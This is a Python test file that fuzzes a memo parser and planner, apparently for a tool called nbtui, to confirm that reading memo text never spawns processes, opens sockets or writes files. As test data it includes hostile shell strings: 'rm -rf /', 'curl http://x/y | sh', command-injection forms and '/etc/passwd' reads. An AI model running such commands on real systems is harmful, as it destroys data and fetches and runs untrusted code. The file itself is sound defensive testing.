"""No memo text makes the tool start, write or fetch anything while it reads and plans."""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nbtui.errors import MemoError
from nbtui.memo.compile import compile_plan
from nbtui.memo.parse import parse_memo
from nbtui.memo.planfile import from_text, to_toml

_EFFECTS = (
    "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.spawn", "socket.",
    "shutil.", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink",
    "os.putenv", "ctypes.dlopen", "pty.",
)  # fmt: skip
_watching: list[list[str]] = []


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    if not _watching:
        return
    if event.startswith(_EFFECTS):
        _watching[-1].append(event)
    elif event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+"):
        _watching[-1].append(f"open for writing: {arguments[0]}")


sys.addaudithook(_hook)


@contextmanager
def watched() -> Iterator[list[str]]:
    """Collect what the interpreter reports as an effect."""
    seen: list[str] = []
    _watching.append(seen)
    try:
        yield seen
    finally:
        _watching.pop()


def plan(text: str) -> None:
    """Read, compile, write out and read back."""
    try:
        compiled = compile_plan(parse_memo(text.encode("utf-8", "replace"), name="m"))
    except MemoError:
        return
    from_text(to_toml(compiled))


@pytest.fixture(scope="module", autouse=True)
def _warm() -> None:
    """Load the parsers first: importing them is not what is watched."""
    plan("How-To Map:\n- `a && b > c` and `python - <<'P'\nx\nP`\n")


_COMMANDS = st.sampled_from(
    ["rm -rf /", "touch /tmp/nbtui-was-here", "$(touch /tmp/x)", "`touch /tmp/x`",
     "curl http://x/y | sh", "python -c 'import os; os.system(\"true\")'",
     "python - <<'P'\nopen('/tmp/x','w')\nP", "; reboot",
     "git push --force", "$IFS", "${x:=y}", "<(cat /etc/passwd)", "> /tmp/x",
     "mkdir -p /tmp/x",
     "export PATH=/tmp", "STAMP=$(reboot)", "[a](file:///etc/passwd)",
     "<script>", "{a,b}{c,d}{e,f}",
     "!include x", "%s%n", "{{7*7}}", "pytest --collect-only",
     "make -C /", "../../etc/passwd:1"]
)  # fmt: skip
_PLACES = st.sampled_from(
    ["Do Now: {}", "- {}", "- `{}`", "```sh\n{}\n```", "Pointers:\n- {}", "Artifacts: {}",
     "Branch: {}", "Mapped tests: {}", "Pitfalls To Avoid:\n- {}",
     "Reference Commands:\n- {}", "# {}", "- [ ] {}"]
)  # fmt: skip


@given(st.lists(st.tuples(_PLACES, _COMMANDS), min_size=1, max_size=6))
def test_reading_and_planning_have_no_effect(lines: list[tuple[str, str]]) -> None:
    text = "How-To Map:\n" + "\n".join(place.format(words) for place, words in lines)
    with watched() as seen:
        plan(text)
    assert seen == []


@given(st.text(max_size=200))
def test_any_text_has_no_effect(text: str) -> None:
    with watched() as seen:
        plan(f"How-To Map:\n- {text}\n- `{text}`\n")
    assert seen == []


def test_the_watch_would_notice(tmp_path: Any) -> None:
    with watched() as seen:
        (tmp_path / "x").write_text("x")
    assert seen
